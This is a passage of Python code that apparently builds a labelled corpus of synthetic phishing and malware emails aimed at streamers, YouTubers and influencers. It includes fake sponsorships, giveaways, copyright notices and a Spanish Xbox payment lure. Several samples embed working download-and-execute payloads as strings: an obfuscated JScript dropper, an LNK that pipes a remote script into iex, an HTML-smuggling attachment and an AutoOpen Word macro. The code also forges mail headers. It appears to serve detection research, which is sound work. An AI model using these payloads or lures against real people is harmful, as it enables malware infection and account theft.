<tr><td style="padding:10px 30px;color:#505050;font-size:15px;line-height:22px;">
Hola:<br /><br />
No hemos podido procesar el pago de tu suscripci&oacute;n a <b>Xbox Game Pass Ultimate</b>. El m&eacute;todo de pago asociado a tu cuenta ha sido rechazado por tu banco.<br /><br />
Para seguir disfrutando de cientos de juegos, del juego online y de EA Play, actualiza tus datos de pago antes del <b>22/01/2025</b>. Si no lo haces, perder&aacute;s el acceso y tus partidas guardadas en la nube podr&iacute;an eliminarse.
</td></tr>
<tr><td style="padding:20px 30px 30px 30px;"><a href="{url}" style="background:#107c10;color:#ffffff;padding:12px 26px;text-decoration:none;font-size:15px;display:inline-block;">Actualizar m&eacute;todo de pago</a></td></tr>
<tr><td style="padding:16px 30px;background:#f7f7f7;color:#767676;font-size:11px;line-height:16px;">Microsoft respeta tu privacidad. Lee nuestra declaraci&oacute;n de privacidad en l&iacute;nea.<br />Microsoft Ireland Operations Limited, One Microsoft Place, South County Business Park, Leopardstown, Dublin 18, Irlanda</td></tr>
</table></td></tr></table></body>""", "Xbox")
    plain = ("Tu suscripción ha caducado\n\nHola:\n\nNo hemos podido procesar el pago de tu suscripción a Xbox Game Pass "
             "Ultimate. Actualiza tus datos de pago antes del 22/01/2025.\n\n"
             f"Actualizar método de pago: {url}\n\nMicrosoft Ireland Operations Limited\n")
    headers = [
        f"Received: from [45.88.186.203] (port=51862 helo=User)\n\tby srv42.hostinglowcost.es with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
        f"\t(Exim 4.97.1)\n\t(envelope-from <info@{dom}>)\n\tid 1tZnQ4-0003Xk-1T\n\tfor {rcpt};\n\t{rfc(plus(when, -1), '+0100')}",
        dkim(dom, "default", seed, when, h="Content-Type:MIME-Version:Message-ID:Subject:From:To:Date:Sender:Reply-To"),
        f"Date: {rfc(when, '+0100')}",
        f"To: {rcpt}",
        f"From: Xbox <info@{dom}>",
        f"Subject: {enc('Tu suscripción a Xbox Game Pass Ultimate ha caducado')}",
        f"Message-ID: <{rnd(seed + 'mid', 32)}@{dom}>",
        "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        "X-AntiAbuse: Primary Hostname - srv42.hostinglowcost.es",
        "X-AntiAbuse: Original Domain - hotmail.es",
        "X-Get-Message-Sender-Via: srv42.hostinglowcost.es: authenticated_id: info@reformas-arjona.es",
        "X-Authenticated-Sender: srv42.hostinglowcost.es: info@reformas-arjona.es",
    ]
    body = Multi("alternative", f"b1=_{rnd(seed + 'b', 43)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 3), a), headers), body)


# ============================================================================================
# attacks: sponsorship / malware aimed at creators and gamers
# ============================================================================================

def zoho_out(seed: str, when: datetime, from_addr: str, client_ip: str) -> tuple[list[str], Auth, str]:
    domain = from_addr.split("@")[1]
    ip = f"136.143.{num(seed + 'zip', 184, 191)}.{num(seed + 'zip2', 10, 120)}"
    helo = f"sender4-op-o{ip.split('.')[-1]}.zoho.com"
    a = Auth(ip, helo, from_addr, "pass", [(domain, "zmail", "pass")], "pass", "none", domain, seed)
    ts = int(when.timestamp())
    mid = f"<{hx(seed + 'z1', 11)}.{hx(seed + 'z2', 16)}.{num(seed + 'z3', 10**18, 10**19 - 1)}@{domain}>"
    lines = [
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts}; cv=none;\n\td=zohomail.com; s=zohoarc;\n\tb={fold(rnd(seed + 'zas', 342, B64) + '==')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.com; s=zohoarc;\n\tt={ts}; "
        f"h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To:Cc;\n"
        f"\tbh={rnd(seed + 'zabh', 43, B64)}=;\n\tb={fold(rnd(seed + 'zab', 342, B64) + '==')}",
        f"ARC-Authentication-Results: i=1; mx.zohomail.com;\n\tdkim=pass  header.i={domain};\n\tspf=pass  smtp.mailfrom={from_addr};\n"
        f"\tdmarc=pass header.from=<{from_addr}>",
        dkim(domain, "zmail", seed, when, h="Date:Date:From:From:To:To:Message-ID:Subject:Subject:MIME-Version:Content-Type:Message-Id:Reply-To:Cc"),
        f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {ts}{num(seed + 'zid', 100, 999)}{num(seed + 'zid2', 100, 999)}."
        f"{num(seed + 'zid3', 100, 999)}{num(seed + 'zid4', 100, 999)}; {rfc(plus(when, -1), '-0700')}",
        f"Received: from  [{client_ip}] by mail.zoho.com\n\twith HTTP;{rfc(plus(when, -1), '-0700')}",
    ]
    return lines, a, mid


@sample("malware", "phish", "steam-wallet-codes-js-zip",
        "'You won the CS2 community giveaway' mail from a throwaway skins-site domain with a zip of 'Steam Wallet codes' "
        "that is really a JScript downloader (.js) launching hidden PowerShell.")
def steam_codes_js():
    seed = "b31-steamcodes"
    when = utc("2024-11-30 18:22:10")
    rcpt = "ryan.ashford@icloud.com"
    dom = "csgo-dropzone.net"
    a = Auth("194.26.135.88", "mail.csgo-dropzone.net", f"rewards@{dom}", "pass", [(dom, "mail", "pass")], None,
             header_from=dom, seed=seed)
    js = ("// Steam Wallet Code Redeemer v2.3\n"
          "var _0x4a1c=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e',"
          "'\\x70\\x6f\\x77\\x65\\x72\\x73\\x68\\x65\\x6c\\x6c'];\n"
          "var codes=['7QKXB-2M9RT-4ZLNC','F3H8W-P0V6D-JQ1YT','L2N5E-XW7BK-9RCMU','Q8T3Z-DJ4VF-HP6KA'];\n"
          "function _d(s){var r='';for(var i=0;i<s.length;i+=2){r+=String.fromCharCode(parseInt(s.substr(i,2),16)^23);}return r;}\n"
          "var sh=new ActiveXObject(_0x4a1c[0]);\n"
          "var p=_0x4a1c[2]+' -w hidden -nop -ep bypass -c \"$u=\\'https://csgo-dropzone.net/cdn/redeem.ps1\\';"
          "iex ((New-Object Net.WebClient).DownloadString($u))\"';\n"
          "sh[_0x4a1c[1]](p,0,false);\n"
          "WScript.Echo('Your Steam Wallet codes:\\n'+codes.join('\\n')+'\\n\\nRedeem at store.steampowered.com/account/redeemwalletcode');\n")
    archive = files.zip_archive([("Steam_Wallet_Codes_100USD.js", js.encode())])
    plain = ("Congratulations!\n\nYou were selected as one of the 25 winners of the Counter-Strike 2 community giveaway "
             "(November 2024). Your prize: $100 in Steam Wallet codes (4 x $25).\n\n"
             "The codes are in the attached file. Open it on your PC to reveal and redeem them - codes expire 72 hours "
             "after this email.\n\nGL HF,\nDropZone team\n")
    html = html_page("""<body style="font-family:Verdana,Arial,sans-serif;font-size:14px;color:#222;">
<h2 style="color:#e07a10;">Congratulations!</h2>
<p>You were selected as one of the <b>25 winners</b> of the Counter-Strike 2 community giveaway (November 2024).</p>
<p>Your prize: <b>$100 in Steam Wallet codes</b> (4 x $25).</p>
<p>The codes are in the attached file. Open it on your PC to reveal and redeem them &mdash; codes expire <b>72 hours</b> after this email.</p>
<p>GL HF,<br />DropZone team</p>
</body>""")
    headers = [
        f"Received: from [127.0.0.1] (unknown [102.129.143.17])\n\tby mail.csgo-dropzone.net (Postfix) with ESMTPSA id 4Y5{rnd(seed + 'q', 7)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1), '+0300')}",
        dkim(dom, "mail", seed, when),
        "MIME-Version: 1.0",
        f"Date: {rfc(when, '+0300')}",
        f"From: CS2 DropZone <rewards@{dom}>",
        f"To: {rcpt}",
        f"Subject: {enc('🎁 You won! Your $100 Steam Wallet codes are attached')}",
        f"Message-ID: <{hx(seed + 'mid', 24)}@{dom}>",
        "X-Mailer: Microsoft Outlook 16.0",
    ]
    body = mixed(f"----=_NextPart_000_0007_{hx(seed + 'n1', 8).upper()}.{hx(seed + 'n2', 8).upper()}",
                 alt(seed, plain, html, f"----=_NextPart_001_0008_{hx(seed + 'n3', 8).upper()}.{hx(seed + 'n2', 8).upper()}"),
                 attachment("application/x-zip-compressed", "Steam_Wallet_Codes_100USD.zip", archive))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("malware", "phish", "twitch-sponsor-encrypted-zip-exe",
        "Fake indie-studio 'paid Twitch stream of our Early Access build' offer from a Gmail account, attaching a "
        "password-protected zip (password in the mail) hiding a launcher executable - the classic infostealer "
        "delivery against streamers.")
def twitch_sponsor_zip():
    seed = "b31-twitchzip"
    when = utc("2025-05-13 10:31:58")
    rcpt = "pixelwren.tv@gmail.com"
    sender = "moonvalestudio.partners@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    archive = zipcrypto([
        ("Stormreach_EarlyAccess_v0.9.3/Stormreach_Launcher.exe", files.pe_stub() + b"\x00" * 3072),
        ("Stormreach_EarlyAccess_v0.9.3/UnityPlayer.dll", files.pe_stub()),
        ("Stormreach_EarlyAccess_v0.9.3/readme.txt", b"Stormreach Early Access build 0.9.3\r\nRun Stormreach_Launcher.exe as administrator.\r\n"),
    ], b"MV2025", seed)
    paras = [
        "Hi PixelWren,", "",
        "I'm Hana, partnerships manager at Moonvale Studio. We're a small team from Osaka working on <b>Stormreach</b>, "
        "a co-op survival roguelite launching on Steam this summer.", "",
        "We really like your cozy/survival streams and would love to sponsor a 2-hour stream of our Early Access build. "
        "Our budget is <b>$1,200</b> for the stream plus 30 Steam keys for your community. Payment via PayPal or Wise, "
        "50% upfront after you confirm the build runs on your setup.", "",
        "I attached the build so you can check performance first (the archive is protected so it doesn't leak): "
        "<b>password: MV2025</b>", "",
        "Please let me know your availability for the next two weeks and your preferred payment method.", "",
        "Best regards,", "Hana Ito", "Partnerships | Moonvale Studio", "moonvale-studio.com",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Hana Ito <{sender}>",
        f"Date: {rfc(plus(when, -2), '+0900')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: Paid collaboration - Stormreach Early Access stream ($1,200)",
        f"To: {rcpt}",
    ]
    body = mixed(f"000000000000{hx(seed + 'mx', 16)}", alt(seed, plain, gmail_html(paras)),
                 attachment("application/zip", "Stormreach_EarlyAccess_v0.9.3.zip", archive))
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), body)


@sample("phishing", "phish", "youtube-sponsor-video-editor-dropbox",
        "Sponsorship offer to a YouTuber from a freshly registered 'AI video editor' startup on Zoho Mail (passes its own "
        "checks), asking to install the 'partner build' from a password-protected Dropbox link - malware by download.")
def youtube_sponsor_dropbox():
    seed = "b31-vidora"
    when = utc("2025-08-19 15:47:03")
    rcpt = "samcrafts.yt@gmail.com"
    sender = "lena.hoffmann@vidora-ai.com"
    out, a, mid = zoho_out(seed, when, sender, "45.133.1.207")
    link = ("https://www.dropbox.com/scl/fi/8k2lq7w1xv3cz0p9hb6ne/Vidora_Partner_Setup_v2.4.1.zip"
            "?rlkey=t4n8xq2m5c7vb1z9k3j6h0dfr&st=q3w9e1rt&dl=1")
    paras = [
        "Hi Sam,", "",
        "My name is Lena Hoffmann and I handle creator partnerships at <b>Vidora AI</b>, an AI-powered video editor "
        "(auto-captions, smart cuts, B-roll generation). Your woodworking and DIY builds are exactly the kind of content "
        "our users love.", "",
        "We'd like to offer you a paid integration: a 60-90 second segment in one of your next videos.<br>"
        "Budget: <b>$2,500</b> per video, paid 50% upfront via PayPal, Payoneer or bank transfer.", "",
        "Before we send the contract, our team asks every creator to test the partner build of the software so the "
        "integration feels genuine. You can download it here:<br>"
        f'<a href="{link.replace("&", "&amp;")}">Vidora_Partner_Setup_v2.4.1.zip</a><br>'
        "Archive password: <b>vidora2025</b>", "",
        "After installation, just log in with your YouTube account so we can verify channel statistics automatically.", "",
        "Looking forward to working with you!", "",
        "Best,<br>Lena Hoffmann<br>Creator Partnerships Lead<br>Vidora AI | Berlin - San Francisco",
    ]
    html = ('<!DOCTYPE html><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head>'
            '<body><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;">'
            + "".join(f"<div>{p or '<br>'}</div>" for p in paras) + "</div><br></body></html>\n")
    plain = ("Hi Sam,\n\nMy name is Lena Hoffmann and I handle creator partnerships at Vidora AI, an AI-powered video editor.\n\n"
             "We'd like to offer you a paid integration: a 60-90 second segment in one of your next videos.\n"
             "Budget: $2,500 per video, paid 50% upfront.\n\nBefore we send the contract, please test the partner build:\n"
             f"{link}\nArchive password: vidora2025\n\nAfter installation, just log in with your YouTube account so we can "
             "verify channel statistics automatically.\n\nBest,\nLena Hoffmann\nCreator Partnerships Lead\nVidora AI\n")
    headers = [
        *out,
        f"Date: {rfc(when, '-0700')}",
        f"From: Lena Hoffmann <{sender}>",
        f"To: \"samcrafts.yt\" <{rcpt}>",
        f"Message-Id: {mid}",
        "Subject: Paid sponsorship for your channel - Vidora AI x SamCrafts",
        "MIME-Version: 1.0",
        "Importance: Medium",
        "User-Agent: Zoho Mail",
        "X-Mailer: Zoho Mail",
    ]
    body = Multi("alternative", f"----=_Part_{num(seed + 'p', 100000, 999999)}_{num(seed + 'p2', 10**8, 10**9)}.{int(when.timestamp()) * 1000}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "twitch-sponsor-es-mega-build",
        "Spanish 'colaboración pagada' offer to a streamer from a Gmail account posing as an indie studio, with a Mega.nz "
        "link to a password-protected 'game build' - the malware is downloaded by the victim, nothing is attached.")
def twitch_sponsor_mega_es():
    seed = "b31-ironclad"
    when = utc("2025-10-07 17:05:36")
    rcpt = "lucia.fdez.gomez@gmail.com"
    sender = "ironclad.interactive.pr@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    link = "https://mega.nz/file/Xk4nQbBZ#r7TqL2vW9yPz3mC1oHd8eFg5aJ0sKuN6bVxY4iEwQpM"
    paras = [
        "¡Hola Lucía!", "",
        "Te escribo desde <b>Ironclad Interactive</b>, un estudio indie de Valencia. Estamos a punto de lanzar "
        "<i>Ashen Tides</i>, un roguelike de acción, y nos encantaría que lo jugaras en directo en tu canal de Twitch.", "",
        "Ofrecemos <b>450 €</b> por un directo de 2 horas, más 20 claves de Steam para sorteos entre tus seguidores. "
        "Pagamos por PayPal o transferencia, la mitad por adelantado.", "",
        "Aquí tienes la build de prensa para que compruebes que funciona bien en tu PC:", 
        f'<a href="{link}">{link}</a>',
        "Contraseña del archivo: <b>ASHEN2025</b>", "",
        "Cuando lo pruebes, dime qué días te vienen bien y te mandamos el contrato.", "",
        "Un saludo,", "Marcos Vidal", "Community & Marketing - Ironclad Interactive",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "").replace("<i>", "").replace("</i>", "")
                      .replace(f'<a href="{link}">{link}</a>', link) for p in paras) + "\n"
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Ironclad Interactive <{sender}>",
        f"Date: {rfc(plus(when, -2), '+0200')}",
        f"Message-ID: {gmail_msgid(seed)}",
        f"Subject: {enc('Colaboración pagada: directo de Ashen Tides en tu canal')}",
        f"To: {rcpt}",
    ]
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), alt(seed, plain, gmail_html(paras)))


@sample("malware", "phish", "brand-collab-brief-lnk-zip",
        "Skincare 'brand collaboration brief' sent to an influencer from a look-alike brand domain (authentication "
        "passes for it), attaching a zip whose 'Collaboration_Brief.pdf.lnk' shortcut runs hidden PowerShell, next to "
        "decoy product photos.")
def brand_brief_lnk():
    seed = "b31-glowlab"
    when = utc("2025-03-25 09:12:48")
    rcpt = "mia.tran.creates@outlook.com"
    dom = "glowlab-skin.co"
    a = Auth("104.168.46.203", "mail.glowlab-skin.co", f"collabs@{dom}", "pass", [(dom, "dkim", "pass")], "pass",
             "none", dom, seed)
    lnk = files.lnk_shortcut(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "-w 1 -nop -c \"$p=$env:TEMP+'\\brief.pdf';iwr https://glowlab-skin.co/assets/brief.pdf -OutFile $p;"
        "start $p;iex(iwr https://glowlab-skin.co/assets/c.txt -UseBasicParsing).Content\"")
    archive = files.zip_archive([
        ("Glowlab_Collaboration_2025/Collaboration_Brief.pdf.lnk", lnk),
        ("Glowlab_Collaboration_2025/Products/IMG_0412.jpg", files.photo_jpeg(31)),
        ("Glowlab_Collaboration_2025/Products/IMG_0413.jpg", files.photo_jpeg(32)),
    ])
    html = html_page("""<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333;line-height:1.5;">
<p>Hi Mia,</p>
<p>We've been following your skincare routines on TikTok and Instagram and we think your audience would love our new
<b>Glowlab Barrier Repair Serum</b>.</p>
<p>We'd like to propose a paid collaboration for spring:</p>
<ul><li>1 TikTok video + 3 Instagram stories</li><li>Fee: <b>$1,800</b> + full product set</li><li>Posting window: April 10 - April 30</li></ul>
<p>Everything (deliverables, talking points, product photos and payment terms) is in the attached brief. Please review it
and let us know if you're interested - we're finalizing our creator list this Friday.</p>
<p>Warm regards,<br />Chloe Bennett<br />Influencer Marketing Manager<br /><span style="color:#c28b7a;">GLOWLAB Skincare</span></p>
</body>""")
    plain = ("Hi Mia,\n\nWe've been following your skincare routines on TikTok and Instagram and we think your audience "
             "would love our new Glowlab Barrier Repair Serum.\n\nPaid collaboration for spring:\n- 1 TikTok video + 3 "
             "Instagram stories\n- Fee: $1,800 + full product set\n- Posting window: April 10 - April 30\n\nEverything is in "
             "the attached brief. Please review it and let us know if you're interested.\n\nWarm regards,\nChloe Bennett\n"
             "Influencer Marketing Manager\nGLOWLAB Skincare\n")
    headers = [
        f"Received: from WIN-3R8KQ2P1M4D (unknown [91.92.241.36])\n\tby mail.glowlab-skin.co (Postfix) with ESMTPSA id 4ZM{rnd(seed + 'q', 7)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1))}",
        dkim(dom, "dkim", seed, when),
        f"From: \"Chloe Bennett | GLOWLAB\" <collabs@{dom}>",
        f"To: <{rcpt}>",
        "Subject: Paid collaboration proposal - Glowlab Spring Campaign",
        f"Date: {rfc(when)}",
        "MIME-Version: 1.0",
        f"Message-ID: <{hx(seed + 'mid', 12).upper()}${hx(seed + 'mid2', 8).upper()}${hx(seed + 'mid3', 8).upper()}@glowlab-skin.co>",
        "X-Mailer: Microsoft Outlook 16.0",
        f"Thread-Index: Adud{rnd(seed + 'ti', 20, B64)}==",
        "Content-Language: en-us",
    ]
    body = mixed(f"----=_NextPart_000_0011_{hx(seed + 'n1', 8).upper()}.{hx(seed + 'n2', 8).upper()}",
                 alt(seed, plain, html, f"----=_NextPart_001_0012_{hx(seed + 'n3', 8).upper()}.{hx(seed + 'n2', 8).upper()}"),
                 attachment("application/x-zip-compressed", "Glowlab_Collaboration_2025.zip", archive))
    return message(hdr(deliver(rcpt, plus(when, 3), a), headers), body)


@sample("malware", "phish", "steam-nextfest-presskit-iso",
        "'Steam Next Fest' press-kit mail to a small streamer from a throwaway studio domain, attaching an ISO disc image "
        "that holds a shortcut and a hidden DLL loader dressed as the game build.")
def nextfest_iso():
    seed = "b31-emberforge"
    when = utc("2025-06-03 14:55:20")
    rcpt = "ashvale.gaming@proton.me"
    dom = "emberforge-games.com"
    a = Auth("23.95.182.140", "smtp.emberforge-games.com", f"press@{dom}", "pass", [(dom, "s1", "pass")], "pass", "none",
             dom, seed)
    iso = files.iso_image([
        ("Hollowreach_PressBuild.lnk", files.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", "hollowreach_core.dll,Start")),
        ("hollowreach_core.dll", files.pe_stub()),
        ("README.txt", b"Hollowreach - Steam Next Fest press build\r\nDouble-click Hollowreach_PressBuild to start.\r\n"),
    ], "HOLLOWREACH")
    plain = ("Hey Ashvale!\n\nHollowreach (dark fantasy soulslite) is in Steam Next Fest this June and we're inviting a few "
             "streamers to play the press build before the demo goes public.\n\nWe pay $300 for a 90-minute stream with "
             "our Steam page link in your panels. The press build is attached (disc image, just open it and run the game).\n\n"
             "Reply with your rate card if you're interested!\n\nTomasz Wrobel\nPR & Creators, Emberforge Games\n")
    html = html_page("""<body><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt;">
<p>Hey Ashvale!</p>
<p><b>Hollowreach</b> (dark fantasy soulslite) is in Steam Next Fest this June and we're inviting a few streamers to play the press
build before the demo goes public.</p>
<p>We pay <b>$300</b> for a 90-minute stream with our Steam page link in your panels. The press build is attached (disc image,
just open it and run the game).</p>
<p>Reply with your rate card if you're interested!</p>
<p>Tomasz Wrobel<br />PR &amp; Creators, Emberforge Games</p></div></body>""")
    headers = [
        f"Received: from [10.8.0.6] (unknown [77.105.161.54])\n\tby smtp.emberforge-games.com (Postfix) with ESMTPSA id 4bC{rnd(seed + 'q', 7)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1), '+0200')}",
        dkim(dom, "s1", seed, when),
        f"Message-ID: <{uuid(seed)}@{dom}>",
        f"Date: {rfc(when, '+0200')}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: en-US",
        f"To: {rcpt}",
        f"From: Tomasz Wrobel <press@{dom}>",
        "Subject: Hollowreach press build - Steam Next Fest stream ($300)",
    ]
    body = mixed(f"------------{rnd(seed + 'tb', 24)}",
                 alt(seed, plain, html, f"------------{rnd(seed + 'tb2', 24)}"),
                 attachment("application/x-iso9660-image", "Hollowreach_PressBuild.iso", iso))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("malware", "phish", "sponsor-remittance-html-smuggling",
        "Payment 'remittance advice' for a sponsored post sent from a hijacked Microsoft 365 mailbox of a real small "
        "business (all checks pass), with an HTML attachment that rebuilds and auto-downloads a zipped JScript payload "
        "(HTML smuggling).")
def remittance_smuggling():
    seed = "b31-smuggle"
    when = utc("2025-07-22 12:09:41")
    rcpt = "jordan.mills.art@gmail.com"
    sender = "accounts@brightpath-logistics.com"
    out, a, mid = m365_out(seed, when, sender, "NAM04-BN8-obe")
    payload = files.zip_archive([("Remittance_INV-2291.js",
                                  b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c "
                                  b"iex(irm hxxps://cdn-brightpath.online/r.ps1)'.replace('hxxps','https'),0);")])
    blob = base64.b64encode(payload).decode()
    smuggle = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Remittance Advice</title>\n"
               "<style>body{font-family:Segoe UI,Arial;background:#f3f2f1;text-align:center;padding-top:80px}"
               ".c{background:#fff;display:inline-block;padding:30px 50px;box-shadow:0 2px 6px #bbb}</style></head>\n"
               "<body><div class=\"c\"><img src=\"https://res.cdn.office.net/assets/mail/file-icon/png/pdf_16x16.png\">"
               "<h3>Remittance_INV-2291.pdf</h3><p>Downloading secure document&hellip;</p>"
               "<p style=\"font-size:12px;color:#666\">If the download does not start, open the file from your Downloads folder.</p></div>\n"
               "<script>\n"
               "var d=\"" + "\"+\n\"".join(blob[i:i + 76] for i in range(0, len(blob), 76)) + "\";\n"
               "function b(s){var r=atob(s),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a;}\n"
               "var f=new Blob([b(d)],{type:'application/octet-stream'});var u=URL.createObjectURL(f);\n"
               "var l=document.createElement('a');document.body.appendChild(l);l.style='display:none';l.href=u;\n"
               "l.download='Remittance_INV-2291.zip';l.click();window.URL.revokeObjectURL(u);\n"
               "</script></body></html>\n")
    paras = [
        "Hi Jordan,", "",
        "Please find attached the remittance advice for invoice INV-2291 (sponsored post, July campaign). The payment of "
        "<b>USD 1,450.00</b> has been released and should reach your account within 2-3 business days.", "",
        "Kindly open the attachment on a computer to view the full details and confirm receipt.", "",
        "Thank you,", "Accounts Payable", "BrightPath Logistics LLC",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"
    headers = [
        *out,
        f"From: BrightPath Accounts <{sender}>",
        f"To: \"{rcpt}\" <{rcpt}>",
        "Subject: Remittance Advice - INV-2291 - Payment Released",
        "Thread-Topic: Remittance Advice - INV-2291 - Payment Released",
        f"Thread-Index: AQHb+{rnd(seed + 'ti', 24, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "brightpath-logistics.com", has_attach=True),
        "MIME-Version: 1.0",
    ]
    inner = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(outlook_html(paras), "html")])
    body = mixed(f"_004_{mid[1:].split('@')[0]}_", inner,
                 attachment("text/html", "Remittance_INV-2291.html", smuggle.encode()))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("malware", "phish", "vpn-sponsorship-agreement-docm",
        "Fake VPN brand 'sponsorship agreement' sent to a vlogger from a look-alike brand domain, attaching a "
        "macro-enabled Word document (.docm) whose AutoOpen macro downloads and runs a payload.")
def vpn_docm():
    seed = "b31-nordpeak"
    when = utc("2024-10-15 08:41:19")
    rcpt = "haruto.sato.vlogs@gmail.com"
    dom = "nordpeak-vpn.com"
    a = Auth("45.61.137.92", "mail.nordpeak-vpn.com", f"partners@{dom}", "pass", [(dom, "default", "pass")], "pass",
             "quarantine", dom, seed)
    macro = ("Attribute VB_Name = \"NewMacros\"\r\n"
             "Sub AutoOpen()\r\n"
             "    Dim s As String, o As Object\r\n"
             "    s = \"pow\" & \"ersh\" & \"ell -w hidden -nop -ep bypass -c \"\"$c=New-Object Net.WebClient;"
             "$c.DownloadFile('https://nordpeak-vpn.com/docs/agreement.dat',$env:APPDATA+'\\\\np.exe');"
             "Start-Process $env:APPDATA'\\\\np.exe'\"\"\"\r\n"
             "    Set o = CreateObject(\"WScript.Shell\")\r\n"
             "    o.Run s, 0, False\r\n"
             "End Sub\r\n")
    doc = files.docx([
        "NORDPEAK VPN - CREATOR SPONSORSHIP AGREEMENT",
        "This document is protected. Click 'Enable Editing' and then 'Enable Content' to view the agreement.",
        "Creator: Haruto Sato (YouTube)",
        "Fee: USD 3,200 for one dedicated integration",
    ], "Sponsorship Agreement", "NordPeak Legal", macro=macro)
    plain = ("Hello Haruto,\n\nThank you for your interest in the NordPeak VPN creator program. As discussed, please find "
             "attached the sponsorship agreement for one 60-second integration (USD 3,200).\n\nThe document is protected; "
             "please enable editing and content when opening it in Word, fill in your payment details and send it back "
             "by Friday.\n\nKind regards,\nDaniel Brooks\nCreator Partnerships, NordPeak VPN\n")
    html = html_page("""<body style="font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b;">
<p>Hello Haruto,</p>
<p>Thank you for your interest in the NordPeak VPN creator program. As discussed, please find attached the sponsorship agreement
for one 60-second integration (<b>USD 3,200</b>).</p>
<p>The document is protected; please <b>enable editing and content</b> when opening it in Word, fill in your payment details and
send it back by Friday.</p>
<p>Kind regards,<br />Daniel Brooks<br />Creator Partnerships, NordPeak VPN</p></body>""")
    headers = [
        f"Received: from nordpeak-vpn.com (unknown [193.149.176.33])\n\tby mail.nordpeak-vpn.com (Postfix) with ESMTPA id 4XS{rnd(seed + 'q', 7)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1))}",
        dkim(dom, "default", seed, when),
        "MIME-Version: 1.0",
        f"Date: {rfc(when)}",
        f"From: Daniel Brooks <partners@{dom}>",
        f"To: {rcpt}",
        "Subject: NordPeak x Haruto - Sponsorship Agreement (action needed)",
        f"Message-ID: <{hx(seed + 'mid', 32)}@{dom}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
    ]
    body = mixed(f"b1=_{rnd(seed + 'b1', 40)}", alt(seed, plain, html, f"b2=_{rnd(seed + 'b2', 40)}"),
                 attachment("application/vnd.ms-word.document.macroEnabled.12", "NordPeak_Sponsorship_Agreement.docm", doc))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("malware", "phish", "copyright-notice-pt-zip-exe",
        "Portuguese copyright-infringement notice to an illustrator from a Gmail 'law office', attaching a zip of "
        "'evidence' with an executable named like a PDF plus a side-loaded DLL (the Rhadamanthys-style creator lure).")
def copyright_pt_exe():
    seed = "b31-copyright-pt"
    when = utc("2025-02-26 13:18:07")
    rcpt = "mari.souza.art@gmail.com"
    sender = "lumen.juridico.notificacoes@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    archive = files.zip_archive([
        ("Provas_violacao_direitos_autorais/Provas_imagens_utilizadas_sem_licenca.pdf.exe", files.pe_stub() + b"\x00" * 4096),
        ("Provas_violacao_direitos_autorais/msvcp140.dll", files.pe_stub()),
        ("Provas_violacao_direitos_autorais/Notificacao.txt", "Abra o arquivo PDF para ver as provas.".encode("utf-8")),
    ])
    paras = [
        "Prezada Mariana Souza,", "",
        "Representamos o estúdio fotográfico <b>Aurora Visual Ltda.</b>, titular dos direitos autorais das imagens "
        "utilizadas sem autorização em publicações do seu perfil no Instagram (@mari.souza.art) e na sua loja online.", "",
        "Em anexo enviamos as provas da violação, com a lista das imagens e as datas de publicação. Solicitamos a remoção "
        "do conteúdo em até <b>48 horas</b>, sob pena de medidas judiciais e pedido de indenização.", "",
        "Senha do arquivo, se solicitada: 2025", "",
        "Atenciosamente,", "Dra. Camila Ferraz", "Lumen Advocacia - Propriedade Intelectual", "São Paulo - SP",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Lumen Advocacia <{sender}>",
        f"Date: {rfc(plus(when, -2), '-0300')}",
